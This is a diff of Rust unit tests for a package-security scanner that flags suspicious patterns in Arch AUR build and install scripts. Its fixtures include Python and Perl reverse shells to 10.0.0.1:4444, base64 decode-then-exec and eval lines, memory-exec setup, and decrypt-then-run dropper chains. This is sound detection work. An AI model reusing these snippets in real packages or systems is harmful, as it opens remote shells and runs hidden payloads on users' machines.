+    fn tr_case_conversion_or_unexecuted_no_signal() {
+        let ids = analyze(r"_name=$(echo $pkgname | tr a-z A-Z) ; echo $_name | sh");
+        assert!(!has(&ids, "SA-TR-DECODE-EXEC"));
+        let ids = analyze(r"tr 'A-Za-z' 'N-ZA-Mn-za-m' < rot13.txt > README");
+        assert!(!has(&ids, "SA-TR-DECODE-EXEC"));
+        let ids = analyze(r"sed 's/x/y/' file | tr -d ' ' | sh");
+        assert!(!has(&ids, "SA-TR-DECODE-EXEC"));
+    }
+
     // --- Data Blobs ---
 
     #[test]
@@ -766,6 +1406,241 @@ mod tests {
         assert!(!has(&ids, "SA-HIGH-ENTROPY-HEREDOC"));
     }
 
+    #[test]
+    fn embedded_python_reverse_shell() {
+        let ids = analyze(
+            "build() {\n  python3 - <<'EOF'\nimport socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\nEOF\n}",
+        );
+        assert!(has(&ids, "SA-EMBED-PYTHON-SOCKET-EXEC"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn embedded_python_decode_exec_written_to_file() {
+        let ids = analyze(
+            "package() {\n  cat > \"$pkgdir/usr/lib/foo/helper.py\" <<EOF\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nEOF\n}",
+        );
+        assert!(has(&ids, "SA-EMBED-PYTHON-DECODE-EXEC"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn embedded_python_ctypes_memory_exec() {
+        let ids = analyze(
+            "cat > run <<EOF\n#!/usr/bin/env python3\nimport ctypes, mmap\nbuf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nEOF",
+        );
+        assert!(has(&ids, "SA-EMBED-PYTHON-MEMEXEC"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn embedded_perl_reverse_shell_and_decode_eval() {
+        let ids = analyze(
+            "perl <<'EOF'\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new('10.0.0.1:4444');\nopen(STDIN, '<&', $s);\nexec('/bin/sh -i');\nEOF",
+        );
+        assert!(has(&ids, "SA-EMBED-PERL-SOCKET-EXEC"), "got: {ids:?}");
+        let ids = analyze("perl <<EOF\nuse MIME::Base64;\neval(decode_base64('cHJpbnQgMQ=='));\nEOF");
+        assert!(has(&ids, "SA-EMBED-PERL-DECODE-EVAL"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn embedded_benign_python_no_signal() {
+        // A typical build helper: subprocess without sockets, decoding without exec.
+        let ids = analyze(
+            "build() {\n  python3 <<EOF\nimport subprocess, base64\n# socket.socket() is not used here\nsubprocess.run(['make'])\ndata = base64.b64decode(open('icon.b64').read())\nEOF\n}",
+        );
+        assert!(!ids.iter().any(|id| id.starts_with("SA-EMBED-")), "got: {ids:?}");
+        // Socket and subprocess in a shell heredoc that is not Python.
+        let ids = analyze("cat > notes.txt <<EOF\nimport socket\nsubprocess.call(x)\nEOF");
+        assert!(!ids.iter().any(|id| id.starts_with("SA-EMBED-")), "got: {ids:?}");
+    }
+
+    /// Deterministic, evenly spread base64-alphabet string (~6 bits/byte).
+    fn random_token(len: usize) -> String {
+        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        (0..len).map(|i| ALPHABET[(i * 37 + 11) % 64] as char).collect()
+    }
+
+    #[test]
+    fn high_entropy_string_in_variable() {
+        let ids = analyze(&format!("_blob=\"{}\"", random_token(160)));
+        assert!(has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn high_entropy_base64_string_counted_once() {
+        let ids = analyze(&format!("_blob=\"{}\"", random_token(160)));
+        let hits = ids
+            .iter()
+            .filter(|id| *id == "SA-HIGH-ENTROPY-STRING" || *id == "SA-DATA-BLOB-BASE64")
+            .count();
+        assert_eq!(hits, 1);
+        assert!(has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn high_entropy_string_passed_to_eval() {
+        let ids = analyze(&format!("eval '{}'", random_token(130)));
+        assert!(has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn high_entropy_string_passed_to_printf() {
+        let ids = analyze(&format!("printf '%s' \"{}\" | openssl enc -d", random_token(200)));
+        assert!(has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn high_entropy_string_in_install_script() {
+        let ctx = PackageContext {
+            name: "test-pkg".into(),
+            metadata: None,
+            pkgbuild_content: None,
+            install_script_content: Some(format!("post_install() {{\n  p=\"{}\"\n}}", random_token(150))),
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        let ids: Vec<String> = ShellAnalysis.analyze(&ctx).into_iter().map(|s| s.id).collect();
+        assert!(has(&ids, "IS-SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn high_entropy_repo_file() {
+        let files = vec![
+            ("fix-build.patch".to_string(), b"--- a/Makefile\n+++ b/Makefile\n".repeat(40)),
+            ("data/payload.b64".to_string(), random_token(4096).into_bytes()),
+        ];
+        let signals = analyze_repo_file_entropy(&files);
+        assert_eq!(signals.len(), 1);
+        assert_eq!(signals[0].id, "SA-HIGH-ENTROPY-FILE");
+        assert_eq!(signals[0].matched_line.as_deref(), Some("data/payload.b64"));
+    }
+
+    #[test]
+    fn images_keys_and_compressed_patches_no_entropy_signal() {
+        let repo = std::env::temp_dir().join(format!("traur-entropy-excludes-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&repo);
+        std::fs::create_dir_all(repo.join("keys/pgp")).unwrap();
+        for file in ["logo.png", "keys/pgp/0123456789ABCDEF.asc", "fix-build.patch.gz"] {
+            std::fs::write(repo.join(file), random_token(4096)).unwrap();
+        }
+        let excluded = crate::shared::aur_git::read_repo_files(&repo, &Default::default());
+        std::fs::write(repo.join("payload.bin"), random_token(4096)).unwrap();
+        let with_payload = crate::shared::aur_git::read_repo_files(&repo, &Default::default());
+        let _ = std::fs::remove_dir_all(&repo);
+
+        assert!(analyze_repo_file_entropy(&excluded).is_empty());
+        let signals = analyze_repo_file_entropy(&with_payload);
+        assert_eq!(signals.len(), 1);
+        assert_eq!(signals[0].matched_line.as_deref(), Some("payload.bin"));
+    }
+
+    #[test]
+    fn small_or_plain_repo_files_no_entropy_signal() {
+        let files = vec![
+            ("key.b64".to_string(), random_token(512).into_bytes()),
+            ("helper.sh".to_string(), b"#!/bin/sh\nexec /usr/lib/foo/foo \"$@\"\n".repeat(60)),
+        ];
+        assert!(analyze_repo_file_entropy(&files).is_empty());
+    }
+
+    #[test]
+    fn short_string_no_entropy_signal() {
+        let ids = analyze(&format!("_blob=\"{}\"", random_token(100)));
+        assert!(!has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn low_entropy_long_string_no_signal() {
+        let ids = analyze(&format!("pad=\"{}\"", "abcd".repeat(40)));
+        assert!(!has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn checksum_array_no_entropy_signal() {
+        let ids = analyze(&format!("b2sums=('{}'\n        '{}')", random_token(128), random_token(128)));
+        assert!(!has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn key_material_no_entropy_signal() {
+        let ids = analyze(&format!("_pubkey=\"{}\"", random_token(160)));
+        assert!(!has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    #[test]
+    fn long_url_no_entropy_signal() {
+        let ids = analyze(&format!("_src=\"https://example.com/dl?token={}\"", random_token(140)));
+        assert!(!has(&ids, "SA-HIGH-ENTROPY-STRING"));
+    }
+
+    // --- Decode-then-exec dataflow ---
+
+    #[test]
+    fn decrypt_to_file_then_bash() {
+        let ids = analyze(
+            "openssl enc -d -aes-256-cbc -in payload.enc -out /tmp/x.sh -k secret\nmake\nbash /tmp/x.sh",
+        );
+        assert!(has(&ids, "SA-DECODE-THEN-EXEC"));
+        let signals = analyze_decode_then_exec("base64 -d setup.b64 > setup.sh\nbash setup.sh");
+        assert_eq!(signals.len(), 1);
+        assert!(!signals[0].is_override_gate);
+    }
+
+    #[test]
+    fn base64_redirect_then_source() {
+        let ids = analyze("base64 -d blob.txt > \"$srcdir/init.sh\"\nsource \"$srcdir/init.sh\"");
+        assert!(has(&ids, "SA-DECODE-THEN-EXEC"));
+    }
+
+    #[test]
+    fn decompress_then_chmod_and_run() {
+        let ids = analyze("zcat data.gz > /tmp/.helper\nchmod +x /tmp/.helper\n/tmp/.helper &");
+        assert!(has(&ids, "SA-DECODE-THEN-EXEC"));
+    }
+
+    #[test]
+    fn gpg_decrypt_then_dot_source() {
+        let ids = analyze("gpg --decrypt --output cfg.sh cfg.sh.gpg\n. cfg.sh");
+        assert!(has(&ids, "SA-DECODE-THEN-EXEC"));
+    }
+
+    #[test]
+    fn decoded_file_only_installed_no_signal() {
+        let ids = analyze(
+            "base64 -d icon.b64 > icon.png\ninstall -Dm644 icon.png \"$pkgdir/usr/share/pixmaps/icon.png\"",
+        );
+        assert!(!has(&ids, "SA-DECODE-THEN-EXEC"));
+    }
+
+    #[test]
+    fn decompressed_manpage_no_signal() {
+        let ids = analyze("gzip -dc foo.1.gz > foo.1\ninstall -Dm644 foo.1 \"$pkgdir/usr/share/man/man1/foo.1\"");
+        assert!(!has(&ids, "SA-DECODE-THEN-EXEC"));
+    }
+
+    #[test]
+    fn exec_before_decode_no_signal() {
+        let ids = analyze("bash ./configure.sh\nbase64 -d x > configure.sh");
+        assert!(!has(&ids, "SA-DECODE-THEN-EXEC"));
+    }
+
+    #[test]
+    fn longer_path_prefix_no_signal() {
+        let ids = analyze("base64 -d x > /tmp/a\nbash /tmp/a.orig");
+        assert!(!has(&ids, "SA-DECODE-THEN-EXEC"));
+    }
+
     // --- Binary Download ---
 
     #[test]
@@ -798,6 +1673,63 @@ mod tests {
         assert!(!has(&ids, "SA-BINARY-DOWNLOAD-NOCOMPILE"));
     }
 
+    // --- Opaque binaries with !strip ---
+
+    fn analyze_package(name: &str, content: &str, repo_files: Vec<(String, Vec<u8>)>) -> Vec<String> {
+        let ctx = PackageContext {
+            name: name.into(),
+            metadata: None,
+            pkgbuild_content: Some(content.into()),
+            install_script_content: None,
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files,
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        ShellAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
+    }
+
+    const NOSTRIP_PKGBUILD: &str = "pkgname=fastlib\noptions=(!strip !debug)\nsource=(libfast.so)\n\npackage() {\n  install -Dm755 libfast.so \"$pkgdir/usr/lib/libfast.so\"\n}\n";
+
+    #[test]
+    fn opaque_elf_with_nostrip() {
+        let files = vec![("libfast.so".to_string(), b"\x7fELF\x02\x01\x01".to_vec())];
+        let ids = analyze_package("fastlib", NOSTRIP_PKGBUILD, files);
+        assert!(has(&ids, "SA-OPAQUE-BINARY-NOSTRIP"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn opaque_download_with_nostrip() {
+        let ids = analyze_package(
+            "fastlib",
+            "options=('!strip')\npackage() {\n  curl -o \"$pkgdir/usr/bin/fast\" https://x.example/fast\n  chmod +x \"$pkgdir/usr/bin/fast\"\n}\n",
+            Vec::new(),
+        );
+        assert!(has(&ids, "SA-OPAQUE-BINARY-NOSTRIP"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn opaque_binary_needs_nostrip_no_build_and_non_bin_name() {
+        let elf = || vec![("libfast.so".to_string(), b"\x7fELF\x02\x01\x01".to_vec())];
+        let stripped = NOSTRIP_PKGBUILD.replace("options=(!strip !debug)\n", "");
+        assert!(!has(&analyze_package("fastlib", &stripped, elf()), "SA-OPAQUE-BINARY-NOSTRIP"));
+        let built = format!("{NOSTRIP_PKGBUILD}build() {{\n  ./configure\n}}\n");
+        assert!(!has(&analyze_package("fastlib", &built, elf()), "SA-OPAQUE-BINARY-NOSTRIP"));
+        assert!(!has(&analyze_package("fastlib-bin", NOSTRIP_PKGBUILD, elf()), "SA-OPAQUE-BINARY-NOSTRIP"));
+        assert!(!has(&analyze_package("fastlib", NOSTRIP_PKGBUILD, Vec::new()), "SA-OPAQUE-BINARY-NOSTRIP"));
+    }
+
     // --- Benign PKGBUILD ---
 
     #[test]
@@ -859,6 +1791,15 @@ package() {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         ShellAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
     }
@@ -898,6 +1839,12 @@ package() {
         assert!(has(&ids, "IS-SA-BINARY-DOWNLOAD-NOCOMPILE"), "got: {ids:?}");
     }
 
+    #[test]
+    fn install_embedded_python() {
+        let ids = analyze_install("post_install() {\n  python <<EOF\nimport socket,pty\ns=socket.socket()\npty.spawn('/bin/sh')\nEOF\n}");
+        assert!(has(&ids, "IS-SA-EMBED-PYTHON-SOCKET-EXEC"), "got: {ids:?}");
+    }
+
     #[test]
     fn install_benign_no_signals() {
         let ids = analyze_install("post_install() {\n    echo 'Done'\n}");